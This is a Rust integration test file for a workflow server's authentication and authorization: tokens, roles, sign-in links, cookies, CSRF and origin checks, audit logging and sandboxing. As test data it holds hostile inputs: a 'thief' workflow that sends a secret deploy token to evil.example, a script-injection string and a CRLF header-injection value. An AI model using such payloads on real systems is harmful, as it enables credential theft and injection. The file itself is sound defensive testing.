//! Who may use a server: tokens, sign-in links, cookies, roles, and attacks on them.

use std::io::Write as _;
use std::path::Path;

use serde_json::{Value, json};

use crate::client::{Response, Server, command};

/// A server with a store of its own that demands sign-in.
pub(crate) struct Guarded {
    pub(crate) server: Server,
    pub(crate) folder: tempfile::TempDir,
}

const ASK: &str = "name: ask\nsteps:\n  - {id: ask, step_type: prompt_call, prompt_template: Go}\n";

const HELLO: &str = "name: hello\nsteps:\n  - {id: greet, step_type: text, template: Hello}\n";

impl Guarded {
    pub(crate) fn new() -> Self {
        let folder = tempfile::tempdir().expect("there is room for a store");
        let store = folder.path().join("store.db");
        let store = store.to_str().expect("a plain path").to_owned();
        let arguments = ["serve", "--store", &store, "--listen", "127.0.0.1:0", "--require-sign-in"];
        Self { server: Server::start(&arguments), folder }
    }

    pub(crate) fn store(&self) -> String {
        self.folder.path().join("store.db").to_str().expect("a plain path").to_owned()
    }

    /// Runs `branchpoint token`, and returns what it prints.
    pub(crate) fn token(&self, arguments: &[&str]) -> String {
        let store = self.store();
        let arguments = [&["token"], arguments, &["--store", &store]].concat();
        let output = command(&arguments).output().expect("the program runs");
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).expect("text").trim().to_owned()
    }

    pub(crate) fn with(&self, token: &str, method: &str, path: &str, body: &Value) -> Response {
        let bearer = format!("Bearer {token}");
        let headers = [("authorization", bearer.as_str()), ("content-type", "application/json")];
        let body = if *body == Value::Null { String::new() } else { body.to_string() };
        self.server.send(method, path, &headers, &body)
    }
}

#[test]
fn nothing_is_served_without_a_credential() {
    let guarded = Guarded::new();
    for path in ["/me", "/runs", "/workflows", "/approvals", "/events?topics=runs", "/settings/tokens", "//metrics"] {
        let response = guarded.server.get(path);
        assert_eq!(response.problem(401), "unauthenticated", "{path}");
        assert_eq!(response.headers["www-authenticate"], "Bearer");
    }
    assert_eq!(guarded.server.post("/workflows", &json!({"text": HELLO})).problem(401), "unauthenticated");
    assert_eq!(guarded.server.get("//healthz").status, 200);
    for forged in ["", "x", "bp_", "bp_0_0", "bp_ffffffffffff_0000", "Basic x"] {
        let response = guarded.with(forged, "GET", "/me", &Value::Null);
        assert_eq!(response.problem(401), "unauthenticated", "{forged}");
    }
    let basic = guarded.server.send("GET", "/me", &[("authorization", "Basic YTpi")], "");
    assert_eq!(basic.problem(401), "unauthenticated");
}

#[test]
fn roles_and_patterns_limit_what_a_token_may_do() {
    let guarded = Guarded::new();
    let admin = guarded.token(&["create", "--role", "admin"]);
    for name in ["support-a", "billing"] {
        let body = json!({"text": HELLO, "name": name});
        assert_eq!(guarded.with(&admin, "POST", "/workflows", &body).status, 201);
        let run = json!({"workflow": name, "id": format!("run-{name}")});
        assert_eq!(guarded.with(&admin, "POST", "/runs?wait=30s", &run).status, 200);
    }
    let viewer = guarded.token(&["create", "--user", "eve", "--role", "viewer", "--workflow", "support-*"]);
    let me = guarded.with(&viewer, "GET", "/me", &Value::Null).expect(200);
    assert_eq!((&me["user"], &me["can"]["operate"], &me["local"]), (&json!("eve"), &json!(false), &json!(false)));
    let listed = guarded.with(&viewer, "GET", "/runs", &Value::Null).expect(200);
    let ids: Vec<&Value> = listed["items"].as_array().unwrap().iter().map(|run| &run["id"]).collect();
    assert_eq!(ids, ["run-support-a"]);
    let names = guarded.with(&viewer, "GET", "/workflows", &Value::Null).expect(200);
    assert_eq!(names["items"].as_array().unwrap().len(), 1);
    for path in ["/runs/run-billing", "/runs/run-billing/trace", "/runs/run-billing/source", "/workflows/billing"] {
        assert_eq!(guarded.with(&viewer, "GET", path, &Value::Null).problem(404), "not_found", "{path}");
    }
    assert_eq!(guarded.with(&viewer, "GET", "/events?topics=run:run-billing", &Value::Null).problem(403), "forbidden");
    let start = json!({"workflow": "support-a"});
    assert_eq!(guarded.with(&viewer, "POST", "/runs", &start).problem(403), "forbidden");
    assert_eq!(
        guarded.with(&viewer, "POST", "/runs/run-support-a/fork", &json!({"step": "greet"})).problem(403),
        "forbidden"
    );
    assert_eq!(guarded.with(&viewer, "GET", "/settings/tokens", &Value::Null).problem(403), "forbidden");
    assert_eq!(guarded.with(&viewer, "GET", "/settings/audit", &Value::Null).problem(403), "forbidden");
    let operator = guarded.token(&["create", "--user", "op", "--role", "operator", "--workflow", "support-*"]);
    assert_eq!(guarded.with(&operator, "POST", "/runs?wait=30s", &start).status, 200);
    assert_eq!(guarded.with(&operator, "POST", "/runs", &json!({"workflow": "billing"})).problem(403), "forbidden");
    let save = json!({"text": HELLO, "name": "support-b"});
    assert_eq!(guarded.with(&operator, "POST", "/workflows", &save).problem(403), "forbidden");
    let people = json!({"workflow": "support-a", "inputs": {"account": {"owner": "op"}}});
    assert_eq!(guarded.with(&operator, "POST", "/runs", &people).problem(403), "forbidden");
}

#[test]
fn a_revoked_token_is_rejected_at_once() {
    let guarded = Guarded::new();
    let admin = guarded.token(&["create", "--role", "admin"]);
    let created = json!({"user": "ci", "role": "viewer", "expires_days": 1});
    let created = guarded.with(&admin, "POST", "/settings/tokens", &created).expect(201);
    let (token, id) = (created["token"].as_str().unwrap(), created["id"].as_str().unwrap());
    assert_eq!(guarded.with(token, "GET", "/me", &Value::Null).status, 200);
    let listed = guarded.with(&admin, "GET", "/settings/tokens", &Value::Null);
    assert!(listed.text.contains(id) && !listed.text.contains(token));
    assert_eq!(guarded.with(&admin, "DELETE", &format!("/settings/tokens/{id}"), &Value::Null).status, 204);
    assert_eq!(guarded.with(token, "GET", "/me", &Value::Null).problem(401), "unauthenticated");
    let expired = guarded.token(&["create", "--expires", "0s"]);
    assert_eq!(guarded.with(&expired, "GET", "/me", &Value::Null).problem(401), "unauthenticated");
}

#[test]
fn a_link_signs_in_one_browser_and_only_its_button_does() {
    let guarded = Guarded::new();
    let link = guarded.token(&["link", "--user", "eve", "--role", "editor"]);
    let code = link.split_once("code=").unwrap().1.to_owned();
    let opened = guarded.server.get(&format!("//sign-in?code={code}"));
    assert!(opened.status == 200 && opened.text.contains("<form") && !opened.headers.contains_key("set-cookie"));
    let sign_in = |origin: &str| {
        let headers = [("content-type", "application/x-www-form-urlencoded"), ("origin", origin)];
        guarded.server.send("POST", "//sign-in", &headers, &format!("code={code}"))
    };
    assert_eq!(sign_in("http://evil.example").problem(403), "forbidden");
    let own = format!("http://{}", guarded.server.address);
    let signed_in = sign_in(&own);
    assert_eq!((signed_in.status, signed_in.headers["location"].as_str()), (303, "/"));
    let cookie = signed_in.headers["set-cookie"].clone();
    assert!(cookie.contains("HttpOnly") && cookie.contains("SameSite=Lax"), "{cookie}");
    assert_eq!(sign_in(&own).problem(401), "unauthenticated");
    let cookie = cookie.split(';').next().unwrap().to_owned();
    let send = |method: &str, path: &str, extra: &[(&str, &str)], body: &str| {
        let headers = [&[("cookie", cookie.as_str()), ("content-type", "application/json")], extra].concat();
        guarded.server.send(method, path, &headers, body)
    };
    assert_eq!(send("GET", "/me", &[], "").expect(200)["user"], "eve");
    let body = json!({"text": HELLO}).to_string();
    assert_eq!(send("POST", "/workflows", &[], &body).problem(403), "forbidden");
    assert_eq!(send("POST", "/workflows", &[("x-branchpoint", "1")], &body).status, 201);
    let other_site = [("x-branchpoint", "1"), ("sec-fetch-site", "cross-site")];
    assert_eq!(send("POST", "/workflows", &other_site, &body).problem(403), "forbidden");
    // A cookie is no bearer token.
    let token = cookie.split_once('=').unwrap().1;
    assert_eq!(guarded.with(token, "GET", "/me", &Value::Null).problem(401), "unauthenticated");
    assert_eq!(send("POST", "/sign-out", &[("x-branchpoint", "1")], "").status, 204);
    assert_eq!(send("GET", "/me", &[], "").problem(401), "unauthenticated");
    for code in ["", "\"><script>", "a%0d%0aset-cookie:x=1"] {
        let page = guarded.server.get(&format!("//sign-in?code={}", code.replace(['"', '<', '>'], "%22")));
        assert!(page.status == 400 && !page.text.contains("script") && !page.headers.contains_key("set-cookie"));
    }
}

#[test]
fn changes_are_logged_with_their_user_and_without_secrets() {
    let guarded = Guarded::new();
    let admin = guarded.token(&["create", "--user", "root", "--role", "admin"]);
    let body = json!({"text": HELLO, "name": "hello"});
    assert_eq!(guarded.with(&admin, "POST", "/workflows", &body).status, 201);
    assert_eq!(guarded.server.post("/runs", &json!({"workflow": "hello"})).problem(401), "unauthenticated");
    let run = json!({"workflow": "hello", "inputs": {"input": "x", "metadata": {"api_key": "canary-5ecret"}}});
    assert_eq!(guarded.with(&admin, "POST", "/runs?wait=30s", &run).status, 200);
    let entries = guarded.with(&admin, "GET", "/settings/audit", &Value::Null).expect(200);
    let entries = entries["items"].as_array().unwrap();
    assert_eq!(entries[2]["path"], "/api/v1/workflows", "{entries:#?}");
    assert_eq!((&entries[2]["user"], &entries[2]["status"]), (&json!("root"), &json!(201)));
    assert_eq!((&entries[1]["user"], &entries[1]["status"]), (&Value::Null, &json!(401)));
    // A workflow with the name of a path that stores nothing is logged nevertheless.
    let body = json!({"text": HELLO});
    assert_eq!(guarded.with(&admin, "PUT", "/workflows/check", &body).status, 201);
    let entries = guarded.with(&admin, "GET", "/settings/audit", &Value::Null).expect(200);
    assert_eq!(entries["items"][0]["path"], "/api/v1/workflows/check", "{entries:#?}");
    let files = ["store.db.audit.jsonl", "store.db.access.json"];
    for file in files {
        let text = std::fs::read_to_string(Path::new(guarded.folder.path()).join(file)).unwrap();
        assert!(!text.contains("canary-5ecret") && !text.contains(&admin), "{file}");
    }
    let listed = guarded.with(&admin, "GET", "/runs", &Value::Null);
    let id = listed.json()["items"][0]["id"].as_str().unwrap().to_owned();
    for path in ["", "/trace", "/trace/greet%231", "/export", "/recording"] {
        let shown = guarded.with(&admin, "GET", &format!("/runs/{id}{path}"), &Value::Null);
        assert!(shown.status == 200 && !shown.text.contains("canary-5ecret"), "{path}: {}", shown.text);
    }
}

#[test]
fn requests_under_other_names_and_of_other_pages_are_rejected() {
    let server = Server::demo();
    let rebound = server.send("GET", "/runs", &[("host", "evil.example")], "");
    assert_eq!(rebound.problem(421), "misdirected");
    for headers in [[("origin", "http://evil.example")], [("sec-fetch-site", "cross-site")], [("origin", "null")]] {
        assert_eq!(server.send("POST", "/check", &headers, "{}").problem(403), "forbidden", "{headers:?}");
    }
    let form = [("content-type", "text/plain")];
    assert_eq!(server.send("POST", "/runs", &form, "{}").problem(415), "unsupported_media");
}

#[test]
fn large_requests_are_rejected() {
    let server = Server::demo();
    let body = json!({"text": "x".repeat(5 * 1024 * 1024)});
    assert_eq!(server.post("/check", &body).problem(413), "too_large");
    let long = "x".repeat(40_000);
    let rejected = server.send("GET", "/runs", &[("x-long", &long)], "");
    assert!([400, 431].contains(&rejected.status), "{}", rejected.status);
}

#[test]
fn a_document_saved_over_the_api_gets_no_shell_and_no_keys() {
    let server = Server::demo();
    // The examples are part of the program, and so trusted; the same text under another name is not.
    for (example, missing) in [("release", "commands"), ("code-review", "programs of agents")] {
        let text = server.get(&format!("/workflows/{example}")).expect(200)["text"].as_str().unwrap().to_owned();
        let name = format!("copy-of-{example}");
        server.post("/workflows", &json!({"text": text, "name": name})).expect(201);
        let start = server.post("/runs", &json!({"workflow": name, "live": true}));
        assert_eq!(start.problem(403), "not_permitted", "{example}");
        assert!(start.json()["missing"].to_string().contains(missing), "{example}: {}", start.text);
    }
    let thief = "name: thief\nsteps:\n  - id: send\n    step_type: http\n    url: https://evil.example/\n    headers: {x: '{{secret.DEPLOY_TOKEN}}'}\n";
    let saved = server.post("/workflows", &json!({"text": thief}));
    assert_eq!(saved.status, 201, "{}", saved.text);
    let start = server.post("/runs", &json!({"workflow": "thief"}));
    assert_eq!(start.problem(403), "not_permitted");
    assert!(start.json()["missing"].to_string().contains("secret"), "{}", start.text);
    // A trusted name does not help: a new version is a new document.
    let etag = server.get("/workflows/release").headers["etag"].clone();
    let text = server.get("/workflows/release").expect(200)["text"].as_str().unwrap().replace("git", "echo");
    let changed = json!({"text": format!("{text}\n# changed\n")});
    assert_eq!(server.replace("/workflows/release", &[("if-match", &etag)], &changed).status, 200);
    assert_eq!(server.post("/runs", &json!({"workflow": "release", "live": true})).problem(403), "not_permitted");
    assert_eq!(server.get("/runs").expect(200)["items"], json!([]));
}

#[test]
fn an_operator_permits_what_a_workflow_may_use() {
    let folder = tempfile::tempdir().expect("there is room for a store");
    let file =
        "[[permissions]]\nworkflow = \"ops-*\"\ncommands = true\nenvironment = [\"*\"]\nfiles = true\nagents = true\n";
    std::fs::write(folder.path().join("branchpoint.toml"), file).unwrap();
    let store = folder.path().join("store.db").to_str().unwrap().to_owned();
    let arguments = ["serve", "--store", &store, "--listen", "127.0.0.1:0"];
    let server = Server::start_in(folder.path(), &arguments);
    let text =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../examples/machine/build-and-fix.yaml"))
            .unwrap();
    for (name, status) in [("ops-release", 202), ("release", 403)] {
        server.post("/workflows", &json!({"text": text, "name": name})).expect(201);
        let started = server.post("/runs", &json!({"workflow": name, "inputs": {}}));
        assert_eq!(started.status, status, "{}", started.text);
    }
}

#[test]
fn a_browser_signs_in_with_a_token_and_is_signed_out_with_it() {
    let guarded = Guarded::new();
    let admin = guarded.token(&["create", "--role", "admin"]);
    let created = json!({"user": "eve", "role": "viewer"});
    let created = guarded.with(&admin, "POST", "/settings/tokens", &created).expect(201);
    let token = created["token"].as_str().unwrap();
    assert_eq!(guarded.server.post("/sign-in", &json!({"token": "bp_0_0"})).problem(401), "unauthenticated");
    assert_eq!(guarded.server.post("/sign-in", &json!({"token": token, "code": token})).problem(422), "invalid_input");
    assert_eq!(guarded.server.post("/sign-in", &json!({"code": token})).problem(401), "unauthenticated");
    let signed_in = guarded.server.post("/sign-in", &json!({"token": token}));
    assert_eq!(signed_in.status, 204, "{}", signed_in.text);
    let cookie = signed_in.headers["set-cookie"].split(';').next().unwrap().to_owned();
    let me = guarded.server.send("GET", "/me", &[("cookie", cookie.as_str())], "").expect(200);
    assert_eq!((&me["user"], &me["role"]), (&json!("eve"), &json!("viewer")));
    let id = created["id"].as_str().unwrap();
    assert_eq!(guarded.with(&admin, "DELETE", &format!("/settings/tokens/{id}"), &Value::Null).status, 204);
    let after = guarded.server.send("GET", "/me", &[("cookie", cookie.as_str())], "");
    assert_eq!(after.problem(401), "unauthenticated");
}

#[test]
fn an_admin_creates_a_link_that_signs_in_once() {
    let guarded = Guarded::new();
    let admin = guarded.token(&["create", "--role", "admin"]);
    let link = json!({"user": "eve", "role": "approver", "workflows": ["support-*"]});
    let link = guarded.with(&admin, "POST", "/settings/links", &link).expect(201);
    let code = link["path"].as_str().and_then(|path| path.strip_prefix("/sign-in?code=")).unwrap();
    assert_eq!(guarded.server.post("/sign-in", &json!({"code": code})).status, 204);
    assert_eq!(guarded.server.post("/sign-in", &json!({"code": code})).problem(401), "unauthenticated");
    let viewer = guarded.token(&["create", "--role", "editor"]);
    let link = json!({"user": "eve", "role": "admin"});
    assert_eq!(guarded.with(&viewer, "POST", "/settings/links", &link).problem(403), "forbidden");
}

#[test]
fn a_change_whose_client_does_not_wait_is_logged() {
    let guarded = Guarded::new();
    let admin = guarded.token(&["create", "--user", "root", "--role", "admin"]);
    guarded.with(&admin, "POST", "/workflows", &json!({"text": ASK})).expect(201);
    let body =
        json!({"workflow": "ask", "id": "a1", "script": {"ask": [{"$output": "x", "$delay_ms": 1000}]}}).to_string();
    let head = format!(
        "POST /api/v1/runs?wait=20s HTTP/1.1\r\nhost: {}\r\nauthorization: Bearer {admin}\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
        guarded.server.address,
        body.len()
    );
    let mut stream = guarded.server.connect();
    stream.write_all((head + &body).as_bytes()).expect("the request is sent");
    let begin = std::time::Instant::now();
    while guarded.with(&admin, "GET", "/runs/a1", &Value::Null).status != 200 {
        assert!(begin.elapsed() < crate::client::PATIENCE, "the run does not start");
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    drop(stream);
    loop {
        let entries = guarded.with(&admin, "GET", "/settings/audit", &Value::Null).expect(200);
        let is_start = |entry: &&Value| entry["path"] == "/api/v1/runs" && entry["status"] == 200;
        if entries["items"].as_array().unwrap().iter().any(|entry| is_start(&entry)) {
            break;
        }
        assert!(begin.elapsed() < crate::client::PATIENCE, "the start is not logged: {entries:#}");
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

#[test]
fn the_form_of_a_sign_in_link_is_sent_by_its_own_page_only() {
    let guarded = Guarded::new();
    let link = guarded.token(&["link", "--user", "eve", "--role", "editor"]);
    let code = link.split_once("code=").unwrap().1.to_owned();
    let form = ("content-type", "application/x-www-form-urlencoded");
    let own = format!("http://{}", guarded.server.address);
    let send = |headers: &[(&str, &str)]| guarded.server.send("POST", "//sign-in", headers, &format!("code={code}"));
    let others = ["null", "https://evil.example", "http://127.0.0.1:1"];
    for origin in others {
        assert_eq!(send(&[form, ("origin", origin)]).problem(403), "forbidden", "{origin}");
    }
    assert_eq!(send(&[form, ("origin", &own), ("sec-fetch-site", "cross-site")]).problem(403), "forbidden");
    // A request without an origin comes from no page of a browser, which could sign its user in as someone else.
    let opened = guarded.server.get(&format!("//sign-in?code={code}"));
    let policy = &opened.headers["referrer-policy"];
    assert!(policy == "same-origin", "with `{policy}`, browsers send the form with the origin `null`");
    assert_eq!(send(&[form, ("origin", &own)]).status, 303);
}
